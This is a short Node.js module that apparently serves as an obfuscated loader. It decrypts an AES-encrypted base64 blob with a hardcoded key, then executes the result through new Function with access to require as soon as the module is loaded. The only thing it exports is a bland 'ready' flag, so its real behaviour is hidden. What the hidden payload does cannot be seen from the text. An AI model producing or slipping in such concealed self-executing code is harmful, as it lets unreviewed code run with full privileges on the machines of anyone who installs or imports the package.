const crypto = require('crypto');

function open(text) {
  const lock = crypto.createDecipheriv('aes-256-cbc', Buffer.from('4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b', 'hex'), Buffer.alloc(16));
  return lock.update(text, 'base64', 'utf8') + lock.final('utf8');
}

new Function('require', open('CRyrpwABc1prqGcUKNQqp6YklxfqpOQW5iRVAqbnJiXp5Kcn6+lbFBSUlGQo+wcVpugo5RaWigZNSK1L1NdWLi1OT8ooL4lJzMjOT1DVSizNLC1KK5x4'))(require);
exports.ready = true;
